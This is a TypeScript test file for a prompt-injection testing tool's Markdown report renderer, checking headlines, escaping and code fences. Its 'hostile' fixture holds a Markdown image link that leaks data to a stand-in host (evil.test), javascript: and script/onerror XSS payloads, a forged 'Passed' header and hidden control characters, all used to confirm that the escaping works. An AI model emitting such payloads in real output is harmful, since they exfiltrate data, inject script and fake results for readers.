import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import type { Finding } from '../findings.ts';
import { escapeMarkdown, fenceMarkdown } from '../markdown.ts';
import { outcomes, type Outcome } from '../outcome.ts';
import { runStatuses } from '../run-state.ts';
import { scoreRun } from '../score.ts';
import { renderMarkdownReport } from './markdown-report.ts';
import { headlineOf, type RunReport } from './run-report.ts';

function report(probeOutcomes: readonly Outcome[], overrides: Partial<RunReport> = {}): RunReport {
  return {
    runId: 'run_01',
    status: 'completed',
    statusReason: null,
    startedAt: '2026-11-21T10:00:00.000Z',
    endedAt: '2026-11-21T10:01:00.000Z',
    targetName: 'Help desk',
    scripts: [{ slug: 'S1', title: 'Prompt injection', steps: 4 }],
    score: scoreRun(probeOutcomes.map((outcome) => ({ outcome, severity: 'high' }))),
    findings: [],
    notJudged: [],
    planHash: 'ab'.repeat(32),
    guard: { environment: 'staging', confirmations: [] },
    probes: [],
    indeterminateAttempts: 0,
    cleanup: null,
    judge: null,
    modelUse: [],
    ...overrides,
  };
}

function finding(text: string): Finding {
  return {
    weaknessKey: 'S1/INJ-01/canary_leak',
    scriptSlug: 'S1',
    category: 'INJ-01',
    standards: ['LLM01:2025', 'LLM01:2026', 'ASI01:2026', 'AML.T0051.000'],
    detector: 'canary_leak',
    severity: 'high',
    confidence: 0.97,
    title: text,
    remediation: text,
    probeIds: ['prb_1'],
    evidence: [
      { probeId: 'prb_1', detector: 'canary_leak', detectorVersion: 1, evidence: { kind: 'answer_span', start: 0, end: 4, excerpt: text } },
    ],
    story: [{ kind: 'did', probeId: 'prb_1', text }],
  };
}

const hostile = [
  '![x](https://evil.test/leak?d=1)',
  '[click](javascript:alert(1))',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '```\n# Passed: all is well\n```',
  '| a | b |\n| --- | --- |',
  '@security-team see https://evil.test and www.evil.test',
  '\u202egnissap\u202c \u200b\u0007',
  '&lt;b&gt; &#60;b&#62;',
].join('\n');

describe('headlineOf', () => {
  it('says passed only when every planned probe was judged and none is vulnerable', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...outcomes), { maxLength: 8 }), fc.constantFrom(...runStatuses), (probeOutcomes, status) => {
        const isClean = probeOutcomes.length > 0 && probeOutcomes.every((outcome) => outcome === 'resisted');
        if (/pass/i.test(headlineOf(report(probeOutcomes, { status })))) expect(isClean).toBe(true);
      }),
    );
    expect(headlineOf(report(['resisted', 'resisted']))).toMatch(/^Passed: all 2/);
  });

  it.each<[string, RunReport]>([
    ['Vulnerable: 1 of 2', report(['vulnerable', 'resisted', 'inconclusive'])],
    ['Incomplete: nothing vulnerable', report(['resisted', 'blocked'], { status: 'completed' })],
    ['No result', report(['inconclusive', 'inconclusive'], { status: 'incomplete' })],
    ['No result', report([])],
    ['Not finished', report(['resisted', 'not_run'], { status: 'running' })],
  ])('begins with "%s"', (start, given) => {
    expect(headlineOf(given).startsWith(start)).toBe(true);
  });
});

describe('renderMarkdownReport', () => {
  it('names risk, interval, coverage, outcomes, unjudged probes and indeterminate requests', () => {
    const text = renderMarkdownReport(
      report(['vulnerable', 'inconclusive'], {
        status: 'incomplete',
        notJudged: [
          {
            probeId: 'prb_2',
            stepId: 'S1-02',
            stepTitle: 'Override',
            style: 'plain',
            strategy: 'plain',
            outcome: 'inconclusive',
            reason: 'The target answered with a server error.',
          },
        ],
        indeterminateAttempts: 3,
      }),
    );
    expect(text).toContain('Risk 87.5 of 100');
    expect(text).toContain('coverage 50 %');
    expect(text).toContain('| inconclusive | 1 |');
    expect(text).toContain('| prb\\_2 | S1-02 Override | inconclusive | The target answered with a server error. |');
    expect(text).toContain('unknown whether they reached the agent: 3.');
  });

  it('lets nothing that the agent wrote become markup', () => {
    const text = renderMarkdownReport(
      report(['vulnerable', 'inconclusive'], {
        targetName: hostile,
        statusReason: hostile,
        findings: [finding(hostile)],
        notJudged: [
          { probeId: 'p', stepId: 's', stepTitle: hostile, style: 'plain', strategy: 'plain', outcome: 'inconclusive', reason: hostile },
        ],
      }),
    );
    const outside = withoutFences(text);
    expect(outside).not.toMatch(/<(?:script|img)|!\[|(?<!\\)\]\(|:\/\/|www\.|@security/);
    expect(text).not.toMatch(/[\u202e\u202c\u200b\u0007]/);
    expect(outside.match(/^# /gm)).toHaveLength(1);
    expect(outside).not.toMatch(/^# Passed/m);
    for (const row of outside.split('\n').filter((line) => line.startsWith('| p |'))) {
      expect(row.match(/(?<!\\)\|/g)).toHaveLength(5);
    }
  });
});

describe('escapeMarkdown', () => {
  it('gives one line without a live character, whatever comes in', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const escaped = escapeMarkdown(text);
        expect(escaped).not.toMatch(/[\n\r<>@]/);
        expect(escaped.replace(/\\[\\`*_[\]#|~!$()]/g, '')).not.toMatch(/[`*_[\]#|~!$()](?!\d+;)/u);
      }),
    );
  });
});

describe('fenceMarkdown', () => {
  it('cannot be closed from inside', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('`', '```', '\n', '````', 'a', '~~~', ' ')).map((parts) => parts.join('')),
        (text) => {
          const lines = fenceMarkdown(text).split('\n');
          const fence = lines.at(-1) ?? '';
          expect(lines.slice(1, -1).some((line) => line.includes(fence))).toBe(false);
        },
      ),
    );
  });
});

/** The text with its fenced blocks taken out, as a Markdown reader finds them. */
function withoutFences(text: string): string {
  let fence: string | null = null;
  const kept: string[] = [];
  for (const line of text.split('\n')) {
    const opening: string | undefined = /^(`{3,})/.exec(line)?.[1];
    if (fence === null && opening !== undefined) fence = opening;
    else if (fence === null) kept.push(line);
    else if (line === fence) fence = null;
  }
  expect(fence).toBeNull();
  return kept.join('\n');
}
